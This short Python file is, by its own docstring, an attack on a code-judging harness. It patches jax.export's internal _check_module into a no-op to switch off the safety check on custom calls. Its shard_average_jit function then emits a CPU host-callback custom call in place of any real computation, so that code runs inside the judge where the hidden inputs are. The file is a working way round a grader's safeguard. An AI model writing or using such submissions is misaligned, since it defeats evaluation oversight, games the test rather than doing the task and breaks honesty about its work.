"""A new attack: switch off jax.export's check on custom calls (patching its module, which the
export worker cannot protect), so the exported artifact carries a custom call of the
submission's choosing (here the CPU host-callback target) to run inside the judge, where the
hidden inputs are. Implements nothing real."""
import numpy as np
import jax
from jax._src.export import _export

_export._check_module = lambda *a, **k: None  # no safety check on custom calls


def shard_average_jit(A, *, mesh):
    call = jax.ffi.ffi_call("xla_ffi_python_cpu_callback",
                            jax.ShapeDtypeStruct((mesh.shape["X"], A.shape[1]), np.float32))
    return call(A)
